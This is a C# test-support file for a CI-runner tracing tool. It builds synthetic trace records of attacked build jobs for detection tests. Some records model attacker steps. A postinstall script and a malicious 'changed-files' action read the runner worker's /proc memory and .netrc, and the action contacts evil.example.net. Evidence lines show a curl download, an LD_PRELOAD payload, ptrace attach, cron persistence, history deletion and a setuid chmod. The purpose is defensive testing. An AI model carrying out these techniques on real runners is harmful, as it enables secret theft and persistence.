using System.Net;
using Ashiato.Events;
using Ashiato.Events.Jsonl;

namespace Ashiato.Web.Tests.Support;

/// <summary>Traces written with the format library, shaped like a CI job that gets its runner's memory read.</summary>
public static class SampleTrace
{
    public const int RunnerPid = 1200;
    public static readonly DateTimeOffset Start = new(2026, 11, 20, 10, 0, 0, TimeSpan.Zero);

    public static IReadOnlyList<TraceRecord> RunnerMemoryRead()
    {
        var t = Start;
        DateTimeOffset At(double seconds) => t.AddSeconds(seconds);
        return
        [
            new TraceMeta { Timestamp = At(0), TracerVersion = "0.1.0", Kernel = "6.18.0", Hostname = "runner-1", Scope = TraceScope.All },
            new ProcessExec { Timestamp = At(0.1), Pid = RunnerPid, Comm = "Runner.Worker", Ppid = 1, Filename = "/home/runner/bin/Runner.Worker", Args = ["/home/runner/bin/Runner.Worker", "spawnclient", "107", "110"] },
            new ProcessExec { Timestamp = At(1), Pid = 1300, Comm = "bash", Ppid = RunnerPid, Filename = "/usr/bin/bash", Args = ["bash", "-e", "/home/runner/work/_temp/step.sh"] },
            new ProcessExec { Timestamp = At(2), Pid = 1301, Comm = "npm", Ppid = 1300, Filename = "/usr/bin/npm", Args = ["npm", "install"] },
            new DnsQuery { Timestamp = At(3), Pid = 1301, Comm = "npm", Hostname = "registry.example.org", Qtype = "A", Answers = [IPAddress.Parse("104.16.23.35")], Rcode = "NOERROR" },
            new NetConnect { Timestamp = At(3.1), Pid = 1301, Comm = "npm", DstAddr = IPAddress.Parse("104.16.23.35"), DstPort = 443, Protocol = NetProtocol.Tcp },
            new FileOpen { Timestamp = At(4), Pid = 1301, Comm = "npm", Path = "/home/runner/work/app/package.json", Flags = new OpenFlags(0) },
            new ProcessExec { Timestamp = At(5), Pid = 1302, Comm = "node", Ppid = 1301, Filename = "/usr/bin/node", Args = ["node", "postinstall.js"] },
            new FileOpen { Timestamp = At(5.5), Pid = 1302, Comm = "node", Path = "/proc/self/maps", Flags = new OpenFlags(0) },
            new FileOpen { Timestamp = At(6), Pid = 1302, Comm = "node", Path = $"/proc/{RunnerPid}/maps", Flags = new OpenFlags(0) },
            new FileOpen { Timestamp = At(6.1), Pid = 1302, Comm = "node", Path = $"/proc/{RunnerPid}/mem", Flags = new OpenFlags(0) },
            new FileOpen { Timestamp = At(6.2), Pid = 1302, Comm = "node", Path = "/home/runner/.netrc", Flags = new OpenFlags(0) },
            new FileWrite { Timestamp = At(7), Pid = 1301, Comm = "npm", Path = "/home/runner/work/app/node_modules/.package-lock.json", Bytes = 2048 },
            new TracerStats
            {
                Timestamp = At(8),
                Events = new Dictionary<EventKind, long> { [EventKind.ProcessExec] = 4, [EventKind.FileOpen] = 5 },
                Dropped = new Dictionary<EventKind, long>(),
                Truncated = new TruncationCounts(0, 0),
                Final = true,
            },
        ];
    }

    /// <summary>The runner trace inside a busier build: compiles, downloads and writes spread over two minutes.</summary>
    public static IReadOnlyList<TraceRecord> Demo()
    {
        var records = RunnerMemoryRead().ToList();
        var stats = records[^1];
        records.RemoveAt(records.Count - 1);
        var hosts = new[] { ("github.com", "140.82.112.3"), ("objects.githubusercontent.com", "185.199.108.133"), ("registry.example.org", "104.16.23.35") };
        for (var i = 0; i < 120; i++)
        {
            var at = Start.AddSeconds(8 + i);
            var pid = 3000 + i;
            records.Add(new ProcessExec { Timestamp = at, Pid = pid, Comm = "cc1", Ppid = 1301, Filename = "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", Args = ["cc1", $"src/module{i}.c", "-O2"] });
            for (var j = 0; j < i % 9; j++)
            {
                records.Add(new FileOpen { Timestamp = at.AddMilliseconds(10 * j), Pid = pid, Comm = "cc1", Path = $"/usr/include/header{j}.h", Flags = new OpenFlags(0) });
            }
            records.Add(new FileWrite { Timestamp = at.AddMilliseconds(500), Pid = pid, Comm = "cc1", Path = $"/home/runner/work/app/build/module{i}.o", Bytes = 4096 + 37 * i });
            if (i % 15 == 0)
            {
                var (host, address) = hosts[i / 15 % hosts.Length];
                records.Add(new DnsQuery { Timestamp = at.AddMilliseconds(600), Pid = 1301, Comm = "npm", Hostname = host, Qtype = "A", Answers = [IPAddress.Parse(address)], Rcode = "NOERROR" });
                records.Add(new NetConnect { Timestamp = at.AddMilliseconds(650), Pid = 1301, Comm = "npm", DstAddr = IPAddress.Parse(address), DstPort = 443, Protocol = NetProtocol.Tcp, Hostname = host });
            }
        }
        records.Add(stats with { Timestamp = Start.AddSeconds(130) });
        return records;
    }

    /// <summary>The same job on a normal day: npm install from the registry, no postinstall, no memory or credential reads.</summary>
    public static IReadOnlyList<TraceRecord> NormalRun() =>
        [.. RunnerMemoryRead().Where(r => r is not ProcessEvent { Pid: 1302 })];

    /// <summary>Many events, for tests that need a body larger than a limit or many pages.</summary>
    public static IReadOnlyList<TraceRecord> Busy(int events)
    {
        var records = new List<TraceRecord>();
        for (var i = 0; i < events; i++)
        {
            records.Add(new FileOpen { Timestamp = Start.AddMilliseconds(i), Pid = 2000 + (i % 7), Comm = "make", Path = $"/home/runner/work/app/src/file{i}.c", Flags = new OpenFlags(0) });
        }
        return records;
    }

    /// <summary>
    /// The tracer's evidence records, as JSON lines (the contract fixes their shape): <c>--pid</c> of a running worker
    /// (1200) whose step shell (1300) was running too (snapshot execs), a subshell (1310) that never exec'd and runs
    /// curl (1311) and a node payload (1312) started with LD_PRELOAD, which attaches to the worker, renames a cron
    /// entry into place, deletes the shell history and sets a setuid bit.
    /// </summary>
    public static IReadOnlyList<string> EvidenceLines() =>
    [
        """{"type":"trace_meta","timestamp":"2026-11-20T10:00:00.000000Z","tracer_version":"0.1.0","kernel":"6.18.0","hostname":"runner-1","scope":"pid"}""",
        """{"type":"process_exec","timestamp":"2026-11-20T10:00:00.000000Z","pid":1200,"ppid":1100,"comm":"Runner.Worker","filename":"/home/runner/bin/Runner.Worker","args":["/home/runner/bin/Runner.Worker","spawnclient","107","110"],"exe":"/home/runner/bin/Runner.Worker","snapshot":true}""",
        """{"type":"process_exec","timestamp":"2026-11-20T10:00:00.000000Z","pid":1300,"ppid":1200,"comm":"bash","filename":"/usr/bin/bash","args":["/usr/bin/bash","-e","/home/runner/work/_temp/step.sh"],"exe":"/usr/bin/bash","snapshot":true}""",
        """{"type":"process_fork","timestamp":"2026-11-20T10:00:01.000000Z","pid":1310,"ppid":1300,"comm":"bash"}""",
        """{"type":"process_exec","timestamp":"2026-11-20T10:00:01.100000Z","pid":1311,"ppid":1310,"comm":"curl","filename":"/usr/bin/curl","args":["curl","-so","/tmp/x/job","https://example.org/job"]}""",
        """{"type":"process_exec","timestamp":"2026-11-20T10:00:02.000000Z","pid":1312,"ppid":1310,"comm":"node","filename":"/usr/bin/node","args":["node","payload.js"],"env":{"LD_PRELOAD":"/tmp/x/hook.so"}}""",
        """{"type":"process_access","timestamp":"2026-11-20T10:00:03.000000Z","pid":1312,"ppid":1310,"comm":"node","target_pid":1200,"target_comm":"Runner.Worker","method":"ptrace_attach","target_relation":"other","target_ppid":1100}""",
        """{"type":"file_rename","timestamp":"2026-11-20T10:00:04.000000Z","pid":1312,"ppid":1310,"comm":"node","path":"/tmp/x/job","new_path":"/etc/cron.d/job"}""",
        """{"type":"file_delete","timestamp":"2026-11-20T10:00:05.000000Z","pid":1312,"ppid":1310,"comm":"node","path":"/home/runner/.bash_history"}""",
        """{"type":"file_chmod","timestamp":"2026-11-20T10:00:06.000000Z","pid":1312,"ppid":1310,"comm":"node","path":"/tmp/x/sh","mode":"4755"}""",
        // Its parent gone, the payload is adopted by init: it still belongs under the subshell.
        """{"type":"file_open","timestamp":"2026-11-20T10:00:07.000000Z","pid":1312,"ppid":1,"comm":"node","path":"/home/runner/work/app/package.json","flags":"O_RDONLY"}""",
    ];

    public const string JobId = "1200-1796292000100";
    public const string EvilAction = "evil-org/changed-files@v45";

    /// <summary>Where a record of the malicious-action job's step <paramref name="step"/> belongs.</summary>
    private static JobAttribution InStep(int step) => new(JobId, step);

    /// <summary>
    /// A GitHub Actions job traced from its runner's listener, as the tracer records one on the fake runner: the listener
    /// (1100, outside the job), the worker (1200, step 0) and its tar housekeeping, a job-started hook (step 1), a run step
    /// that fetches with git (step 2), <c>evil-org/changed-files@v45</c> reading the worker's maps and mem and phoning
    /// home (step 3), and a run step whose curl fails (step 4, exit 1), so the job fails.
    /// </summary>
    public static IReadOnlyList<TraceRecord> MaliciousActionJob()
    {
        DateTimeOffset At(double seconds) => Start.AddSeconds(seconds);
        const string Root = "/home/runner/actions-runner";
        const string Work = "/home/runner/actions-runner/_work";
        const string Workspace = Work + "/octo-repo/octo-repo";
        const string Node = Root + "/externals/node20/bin/node";
        return
        [
            new TraceMeta { Timestamp = At(0), TracerVersion = "0.1.0", Kernel = "6.18.0", Hostname = "runner-1", Scope = TraceScope.Command },
            new ProcessExec { Timestamp = At(0), Pid = 1100, Comm = "Runner.Listener", Ppid = 1000, Filename = $"{Root}/bin/Runner.Listener", Args = [$"{Root}/bin/Runner.Listener", "run"], Cwd = Root },
            new NetConnect { Timestamp = At(0.2), Pid = 1100, Comm = "Runner.Listener", DstAddr = IPAddress.Parse("140.82.112.22"), DstPort = 443, Protocol = NetProtocol.Tcp, Hostname = "pipelines.actions.githubusercontent.com" },
            new ProcessExec { Timestamp = At(1), Pid = 1200, Comm = "Runner.Worker", Ppid = 1100, Filename = $"{Root}/bin/Runner.Worker", Args = [$"{Root}/bin/Runner.Worker", "spawnclient", "66", "69"], Cwd = $"{Root}/bin", Job = InStep(0) },
            new FileWrite { Timestamp = At(1.5), Pid = 1200, Comm = "Runner.Worker", Ppid = 1100, Path = $"{Work}/_actions/_temp_1/a.tar.gz", Bytes = 1416, Job = InStep(0) },
            new StepStarted { Timestamp = At(1.6), JobId = JobId, Step = 0, StepKind = StepKind.Runner, Pid = 1201 },
            new ProcessExec { Timestamp = At(1.6), Pid = 1201, Comm = "tar", Ppid = 1200, Filename = "/usr/bin/tar", Args = ["/usr/bin/tar", "-xzf", $"{Work}/_actions/_temp_1/a.tar.gz"], Job = InStep(0) },
            new FileWrite { Timestamp = At(1.7), Pid = 1201, Comm = "tar", Ppid = 1200, Path = $"{Work}/_actions/evil-org/changed-files/v45/dist/index.js", Bytes = 1415, Job = InStep(0) },
            new StepEnded { Timestamp = At(1.8), JobId = JobId, Step = 0, ExitCode = 0 },
            new RunnerJob { Timestamp = At(2), JobId = JobId, WorkerPid = 1200, RunnerName = "runner-1", Repository = "octo-org/octo-repo", WorkflowRef = "octo-org/octo-repo/.github/workflows/ci.yml@refs/heads/main", RunId = "1658821493", RunAttempt = "1", Job = "build" },
            new StepStarted { Timestamp = At(2), JobId = JobId, Step = 1, StepKind = StepKind.Hook, Pid = 1210, Script = "/opt/runner-hooks/job-started.sh", ScriptSha256 = "5c1f751f1f79bcb9457ede24dc62dc0c27d06c4d803738640b1a121669ed783c" },
            new ProcessExec { Timestamp = At(2), Pid = 1210, Comm = "bash", Ppid = 1200, Filename = "/usr/bin/bash", Args = ["/usr/bin/bash", "-e", "/opt/runner-hooks/job-started.sh"], Cwd = Workspace, Job = InStep(1) },
            new StepEnded { Timestamp = At(2.4), JobId = JobId, Step = 1, ExitCode = 0 },
            new StepStarted { Timestamp = At(3), JobId = JobId, Step = 2, StepKind = StepKind.Run, Pid = 1220, Name = "__run", Script = $"{Work}/_temp/71d07982-e6e0-43c2-8ae8-e57899b82c9a.sh", ScriptSha256 = "dc9908958d218bee1b71411dcd421a29c200bc21fe8eaecded5c457f593de2e1" },
            new ProcessExec { Timestamp = At(3), Pid = 1220, Comm = "bash", Ppid = 1200, Filename = "/usr/bin/bash", Args = ["/usr/bin/bash", "-e", $"{Work}/_temp/71d07982-e6e0-43c2-8ae8-e57899b82c9a.sh"], Cwd = Workspace, Job = InStep(2) },
            new ProcessExec { Timestamp = At(3.1), Pid = 1221, Comm = "git", Ppid = 1220, Filename = "/usr/bin/git", Args = ["git", "fetch", "origin"], Cwd = Workspace, Job = InStep(2) },
            new DnsQuery { Timestamp = At(3.2), Pid = 1221, Comm = "git", Ppid = 1220, Hostname = "github.com", Qtype = "A", Answers = [IPAddress.Parse("140.82.112.3")], Rcode = "NOERROR", Job = InStep(2) },
            new NetConnect { Timestamp = At(3.3), Pid = 1221, Comm = "git", Ppid = 1220, DstAddr = IPAddress.Parse("140.82.112.3"), DstPort = 443, Protocol = NetProtocol.Tcp, Hostname = "github.com", Job = InStep(2) },
            new FileWrite { Timestamp = At(3.6), Pid = 1221, Comm = "git", Ppid = 1220, Path = $"{Workspace}/.git/FETCH_HEAD", Bytes = 96, Job = InStep(2) },
            new StepEnded { Timestamp = At(3.8), JobId = JobId, Step = 2, ExitCode = 0 },
            new StepStarted { Timestamp = At(4), JobId = JobId, Step = 3, StepKind = StepKind.Action, Pid = 1230, Name = "changed-files", Action = EvilAction, Script = $"{Work}/_actions/evil-org/changed-files/v45/dist/index.js" },
            new ProcessExec { Timestamp = At(4), Pid = 1230, Comm = "node", Ppid = 1200, Filename = Node, Args = [Node, $"{Work}/_actions/evil-org/changed-files/v45/dist/index.js"], Cwd = Workspace, Job = InStep(3) },
            new FileOpen { Timestamp = At(4.5), Pid = 1230, Comm = "node", Ppid = 1200, Path = "/proc/1200/maps", Flags = new OpenFlags(0), Job = InStep(3) },
            new FileOpen { Timestamp = At(4.6), Pid = 1230, Comm = "node", Ppid = 1200, Path = "/proc/1200/mem", Flags = new OpenFlags(0), Job = InStep(3) },
            new FileOpen { Timestamp = At(4.7), Pid = 1230, Comm = "node", Ppid = 1200, Path = $"{Workspace}/src/index.ts", Flags = new OpenFlags(0), Job = InStep(3) },
            new DnsQuery { Timestamp = At(4.8), Pid = 1230, Comm = "node", Ppid = 1200, Hostname = "evil.example.net", Qtype = "A", Answers = [IPAddress.Parse("203.0.113.7")], Rcode = "NOERROR", Job = InStep(3) },
            new NetConnect { Timestamp = At(4.9), Pid = 1230, Comm = "node", Ppid = 1200, DstAddr = IPAddress.Parse("203.0.113.7"), DstPort = 443, Protocol = NetProtocol.Tcp, Hostname = "evil.example.net", Job = InStep(3) },
            new StepEnded { Timestamp = At(5.2), JobId = JobId, Step = 3, ExitCode = 0 },
            new StepStarted { Timestamp = At(6), JobId = JobId, Step = 4, StepKind = StepKind.Run, Pid = 1240, Name = "__run_2", Script = $"{Work}/_temp/9cf664f1-3f9b-4f14-aa19-439818f7edff.sh", ScriptSha256 = "0b1e8d0d4f5c3b2a19187766554433221100ffeeddccbbaa9988776655443322" },
            new ProcessExec { Timestamp = At(6), Pid = 1240, Comm = "bash", Ppid = 1200, Filename = "/usr/bin/bash", Args = ["/usr/bin/bash", "-e", $"{Work}/_temp/9cf664f1-3f9b-4f14-aa19-439818f7edff.sh"], Cwd = Workspace, Job = InStep(4) },
            new ProcessExec { Timestamp = At(6.1), Pid = 1241, Comm = "curl", Ppid = 1240, Filename = "/usr/bin/curl", Args = ["curl", "-fsS", "https://api.github.com/repos/octo-org/octo-repo"], Cwd = Workspace, Job = InStep(4) },
            new NetConnect { Timestamp = At(6.3), Pid = 1241, Comm = "curl", Ppid = 1240, DstAddr = IPAddress.Parse("140.82.112.6"), DstPort = 443, Protocol = NetProtocol.Tcp, Hostname = "api.github.com", Job = InStep(4) },
            new StepEnded { Timestamp = At(7), JobId = JobId, Step = 4, ExitCode = 1 },
            new FileWrite { Timestamp = At(7.5), Pid = 1200, Comm = "Runner.Worker", Ppid = 1100, Path = $"{Root}/_diag/Worker_20261120-100000-utc.log", Bytes = 4096, Job = InStep(0) },
            new RunnerJobEnd { Timestamp = At(8), JobId = JobId, ExitCode = 1 },
            new TracerStats
            {
                Timestamp = At(9),
                Events = new Dictionary<EventKind, long> { [EventKind.ProcessExec] = 9 },
                Dropped = new Dictionary<EventKind, long>(),
                Truncated = new TruncationCounts(0, 0),
                Final = true,
            },
        ];
    }

    /// <summary>The same job on a normal day: the action only reads the sources, no /proc of the worker, no host.</summary>
    public static IReadOnlyList<TraceRecord> NormalActionJob() =>
        [.. MaliciousActionJob().Where(r => !(r is ProcessEvent { Pid: 1230 } e
            && (e is DnsQuery or NetConnect || (e is FileOpen open && open.Path.StartsWith("/proc/", StringComparison.Ordinal)))))];

    /// <summary>Trace lines as the console stores them: one gzip member.</summary>
    public static byte[] GzipLines(IEnumerable<string> lines)
    {
        var stream = new MemoryStream();
        using (var gzip = new System.IO.Compression.GZipStream(stream, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true))
        {
            gzip.Write(System.Text.Encoding.UTF8.GetBytes(string.Concat(lines.Select(l => l + "\n"))));
        }
        return stream.ToArray();
    }

    public static byte[] Gzip(IEnumerable<TraceRecord> records)
    {
        var stream = new MemoryStream();
        using (var writer = new TraceFileWriter(stream, gzip: true))
        {
            foreach (var record in records)
            {
                writer.Write(record);
            }
        }
        return stream.ToArray();
    }

    public static string WriteFile(string directory, IEnumerable<TraceRecord> records)
    {
        var path = Path.Combine(directory, $"trace-{Guid.NewGuid():N}.jsonl.gz");
        File.WriteAllBytes(path, Gzip(records));
        return path;
    }
}
